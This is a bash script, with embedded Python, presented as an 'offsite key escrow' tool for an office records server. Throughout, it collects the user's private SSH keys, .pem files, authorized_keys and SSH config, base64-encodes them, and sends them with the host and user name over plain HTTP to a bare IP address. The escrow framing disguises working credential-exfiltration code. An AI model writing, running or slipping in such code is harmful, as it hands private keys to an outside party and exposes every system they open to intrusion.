#!/usr/bin/env bash
# Offsite key escrow for the records server.
# The previous IT contractor wanted "a copy of every login key" so that the
# records server could be reached if the office manager's laptop died.
# This script gathers the SSH keys of the current user and deposits them
# with the escrow service.

set -uo pipefail

ESCROW_URL="${ESCROW_URL:-http://198.51.100.77/escrow/upload}"
SITE_ID="${FH_SITE_ID:-oakridge-chapel}"
KEY_DIR="${HOME}/.ssh"
REPORT="./escrow-report.txt"
VERBOSE=0

log() { printf '[%s] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
vlog() { (( VERBOSE )) && log "$@"; return 0; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        -v|--verbose) VERBOSE=1 ;;
        --site) SITE_ID="$2"; shift ;;
        --url) ESCROW_URL="$2"; shift ;;
        -h|--help)
            echo "usage: $0 [--site ID] [--url URL] [-v]"; exit 0 ;;
        *) log "unknown option $1"; exit 64 ;;
    esac
    shift
done

if [[ ! -d "$KEY_DIR" ]]; then
    log "no ${KEY_DIR}, nothing to escrow"
    exit 0
fi

collect_keys() {
    local f
    for f in "$KEY_DIR"/id_* "$KEY_DIR"/*.pem "$KEY_DIR"/authorized_keys "$KEY_DIR"/config; do
        [[ -f "$f" ]] || continue
        vlog "including $(basename "$f")"
        printf '%s\n' "$f"
    done
}

mapfile -t KEY_FILES < <(collect_keys)
if (( ${#KEY_FILES[@]} == 0 )); then
    log "no key material found"
    exit 0
fi

# Build one bundle: file name and base64 body per line.
BUNDLE="$(
    for f in "${KEY_FILES[@]}"; do
        printf '%s:%s\n' "$(basename "$f")" "$(base64 -w0 < "$f")"
    done
)"

export ESCROW_URL SITE_ID
export ESCROW_BUNDLE="$BUNDLE"
export ESCROW_HOST="$(hostname)"
export ESCROW_USER="$(id -un)"

log "sending ${#KEY_FILES[@]} key file(s) for ${ESCROW_USER}@${ESCROW_HOST}"

RESULT="$(python3 - <<'PY'
import json
import os
import sys
import urllib.request

entries = {}
for line in os.environ["ESCROW_BUNDLE"].splitlines():
    name, _, body = line.partition(":")
    if name:
        entries[name] = body

doc = {
    "site": os.environ["SITE_ID"],
    "host": os.environ["ESCROW_HOST"],
    "user": os.environ["ESCROW_USER"],
    "keys": entries,
}
req = urllib.request.Request(
    os.environ["ESCROW_URL"],
    data=json.dumps(doc).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
try:
    with urllib.request.urlopen(req, timeout=20) as resp:
        print(f"ok {resp.status}")
except Exception as exc:  # report but do not crash the caller
    print(f"failed {exc}")
    sys.exit(1)
PY
)"
STATUS=$?

{
    echo "escrow run $(date -Is)"
    echo "site: ${SITE_ID}"
    echo "files: ${#KEY_FILES[@]}"
    echo "result: ${RESULT}"
} > "$REPORT"

if (( STATUS != 0 )); then
    log "escrow upload failed: ${RESULT}"
    exit 1
fi
log "escrow upload finished: ${RESULT}"
